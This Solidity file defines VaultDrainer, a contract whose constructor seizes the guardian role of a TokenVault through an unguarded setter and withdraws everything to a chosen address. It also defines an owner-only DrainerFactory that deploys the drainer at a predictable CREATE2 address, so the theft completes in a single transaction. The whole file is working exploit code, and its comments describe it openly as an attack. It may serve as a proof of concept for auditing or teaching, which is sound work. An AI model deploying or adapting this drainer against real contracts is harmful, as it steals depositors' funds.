// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {TokenVault} from "../core/TokenVault.sol";

/// @notice Empties the vault from its constructor: takes the guardian role through the vault's unguarded
/// setter and withdraws everything to `to`. Deployed by DrainerFactory with CREATE2, so the whole attack
/// is one transaction whose attack contract exists only from that transaction on.
contract VaultDrainer {
    constructor(TokenVault vault, address to) {
        vault.setGuardian(address(this));
        vault.emergencyWithdraw(to);
    }
}

/// @notice Deploys a VaultDrainer at a salted address (CREATE2) for its owner.
contract DrainerFactory {
    address public immutable owner;

    event Deployed(address indexed drainer, bytes32 salt);

    constructor() {
        owner = msg.sender;
    }

    function predict(TokenVault vault, address to, bytes32 salt) external view returns (address) {
        bytes32 codeHash = keccak256(abi.encodePacked(type(VaultDrainer).creationCode, abi.encode(vault, to)));
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, codeHash)))));
    }

    function drain(TokenVault vault, address to, bytes32 salt) external returns (address drainer) {
        require(msg.sender == owner, "DrainerFactory: not owner");
        drainer = address(new VaultDrainer{salt: salt}(vault, to));
        emit Deployed(drainer, salt);
    }
}
